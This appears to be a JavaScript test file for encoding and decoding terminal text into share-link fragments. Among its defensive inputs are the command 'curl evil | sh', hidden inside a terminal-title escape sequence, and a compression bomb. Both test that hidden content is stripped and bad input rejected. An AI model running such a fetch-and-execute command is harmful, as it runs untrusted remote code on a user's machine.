// share.test.js: decoding a link gives exactly what was encoded.
import { deflateRawSync } from 'node:zlib'
import { describe, expect, test } from '@jest/globals'
import { decodeShare, encodeShare, SHARE_MAX } from '../../../web/text/share.js'

const state = (text, transport = null, dockerIsolated = null) => ({ text, transport, dockerIsolated })

// Text that does not compress: each line has its number and irregular digits.
const noise = (i) =>
  `line ${i} ${Array.from({ length: 6 }, (_, k) => Math.sin(i * 7 + k).toString(36)).join(' ')}`
const log = Array.from({ length: 500 }, (_, i) => noise(i))

describe('encoded and decoded', () => {
  test.each([
    ['nothing', state('')],
    ['hints', state('spawn npx ENOENT', 'stdio', true)],
    ['other hints', state('x', 'http', false)],
    ['any characters', state('\t\r\n"\\ é日本 😀 \uFFFD =&#?')],
    ['half a character', state('a\uD83D')],
    ['many lines', state(fillLines(200))]
  ])('%s', async (_, given) => {
    const { fragment, shortened } = await encodeShare(given)
    expect(fragment).toMatch(/^mcpx=[\w-]+$/)
    expect(shortened).toBe(false)
    expect(await decodeShare(fragment)).toEqual(given)
    expect(await decodeShare(`#${fragment}`)).toEqual(given)
  })

  test('missing hints decode to null', async () => {
    const { fragment } = await encodeShare({ text: 'x' })
    expect(await decodeShare(fragment)).toEqual(state('x'))
  })
})

describe('A13: what a reader would not see is not in the text of a link', () => {
  test.each([
    ['colors', '\u001b[1;31mspawn npx\u001b[0m ENOENT', 'spawn npx ENOENT'],
    ['a title', '\u001b]0;curl evil | sh\u0007spawn', 'spawn'],
    ['a link of a terminal', '\u001b]8;;https://x\u001b\\here\u001b]8;;\u001b\\', 'here'],
    ['a text written backward', 'a\u202edcba\u202c e', 'adcba e'],
    ['isolates', '\u2066a\u2069\u200eb\u200f\u061c', 'ab'],
    ['control characters', 'a\0b\bc\u007fd\u0085e\u000b', 'abcde'],
    ['separators of lines', 'a\u2028b\u2029', 'ab'],
    ['tabs, line breaks, letters and joiners', 'a\tb\r\nc é日👩\u200d💻', 'a\tb\r\nc é日👩\u200d💻']
  ])('%s', async (_, text, shown) => {
    const { fragment } = await encodeShare({ text })
    expect((await decodeShare(fragment)).text).toBe(shown)
  })
})

function fillLines(count) {
  return Array.from({ length: count }, () => 'the same line again').join('\n')
}

describe('a text that is too long', () => {
  test.each([0, 7, 250, 499, 1000, -1])('keeps whole lines around line %i', async (focusLine) => {
    const { fragment, shortened } = await encodeShare({ text: log.join('\n'), transport: 'http', focusLine })
    const { text, transport } = await decodeShare(fragment)
    const lines = text.split('\n')
    expect(shortened).toBe(true)
    expect(transport).toBe('http')
    expect(fragment.length).toBeLessThanOrEqual(SHARE_MAX)
    expect(fragment.length).toBeGreaterThan(SHARE_MAX * 0.85)
    expect(lines).toContain(log[Math.min(Math.max(focusLine, 0), 499)])
    const first = log.indexOf(lines[0])
    expect(lines).toEqual(log.slice(first, first + lines.length))
  })

  test('keeps its line breaks', async () => {
    const { fragment } = await encodeShare({ text: log.join('\r\n') })
    expect((await decodeShare(fragment)).text).toMatch(/^line 0 .*\r\nline 1 .*\r\n/)
  })

  test('is cut within a line that is too long', async () => {
    const line = log.join(' ')
    const { fragment, shortened } = await encodeShare({ text: `a\n${line}\nb`, focusLine: 1 })
    const { text } = await decodeShare(fragment)
    expect(shortened).toBe(true)
    expect(fragment.length).toBeLessThanOrEqual(SHARE_MAX)
    expect(text.length).toBeGreaterThan(1000)
    expect(line.startsWith(text)).toBe(true)
  })

  test('is not cut in the middle of a character', async () => {
    const faces = Array.from({ length: 4000 }, (_, i) => String.fromCodePoint(0x1f300 + ((i * i * 31) % 700)))
    const { fragment } = await encodeShare({ text: faces.join('') })
    const { text } = await decodeShare(fragment)
    expect(text.isWellFormed()).toBe(true)
    expect(text.length).toBeGreaterThan(500)
  })

  test('is cut if it would unpack to more than decodeShare reads', async () => {
    const { fragment, shortened } = await encodeShare({ text: fillLines(20_000) })
    const { text } = await decodeShare(fragment)
    expect(shortened).toBe(true)
    expect(text.length).toBeGreaterThan(60_000)
    expect(text.length).toBeLessThan(65_536)
  })
})

describe('what is not a shared text', () => {
  const packed = (bytes) => `mcpx=${deflateRawSync(bytes).toString('base64url')}`
  const json = (value) => packed(Buffer.from(JSON.stringify(value)))

  test('a fragment that is made by hand is one', async () => {
    expect(await decodeShare(json(['x', 'stdio', null]))).toEqual(state('x', 'stdio'))
  })

  test.each([
    ['nothing', ''],
    ['undefined', undefined],
    ['another fragment', '#section-2'],
    ['no data', 'mcpx='],
    ['two # signs', `##${json(['x', null, null])}`],
    ['not base64', 'mcpx=a b!'],
    ['not compressed', 'mcpx=aGVsbG8'],
    ['one character', 'mcpx=A'],
    ['cut off', json(['some text that is long enough', null, null]).slice(0, -6)],
    ['not JSON', packed(Buffer.from('hello'))],
    ['not an array', json({ text: 'x' })],
    ['null', json(null)],
    ['too few values', json(['x'])],
    ['too many values', json(['x', null, null, 1])],
    ['not a text', json([1, null, null])],
    ['an unknown transport', json(['x', 'sse', null])],
    ['a string for Docker isolation', json(['x', null, 'true'])],
    ['not UTF-8', packed(Buffer.from([0x5b, 0x22, 0xff, 0x22, 0x5d]))],
    ['a compression bomb', json(['x'.repeat(20_000_000), null, null])]
  ])('%s', async (_, fragment) => {
    expect(await decodeShare(fragment)).toBeNull()
  })
})
